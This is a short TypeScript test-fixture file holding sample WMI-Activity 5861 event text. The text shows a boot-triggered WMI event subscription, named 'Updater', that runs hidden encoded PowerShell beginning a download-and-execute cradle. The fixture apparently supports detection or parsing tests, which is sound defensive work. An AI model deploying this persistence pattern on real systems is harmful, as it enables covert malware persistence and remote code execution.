/** Shared test fixtures: realistic WMI-Activity text. */

/** PossibleCause text of a WMI-Activity 5861 event, as Windows writes it. */
export const POSSIBLE_CAUSE_5861 = `Binding EventFilter: 
instance of __EventFilter
{
	CreatorSID = {1, 5, 0, 0, 0, 0, 0, 5, 21, 0, 0, 0, 135, 95, 114, 2, 232, 37, 197, 193, 206, 63, 124, 38, 244, 1, 0, 0};
	EventNamespace = "root\\\\cimv2";
	Name = "Updater";
	Query = "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System' AND TargetInstance.SystemUpTime >= 200";
	QueryLanguage = "WQL";
};
Perm. Consumer: 
instance of ActiveScriptEventConsumer
{
	CreatorSID = {1, 5, 0, 0, 0, 0, 0, 5, 21, 0, 0, 0, 135, 95, 114, 2, 232, 37, 197, 193, 206, 63, 124, 38, 244, 1, 0, 0};
	Name = "Updater";
	ScriptingEngine = "VBScript";
	ScriptText = "Set s = CreateObject(\\"WScript.Shell\\")\\ns.Run \\"powershell -nop -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA\\", 0";
};
`;

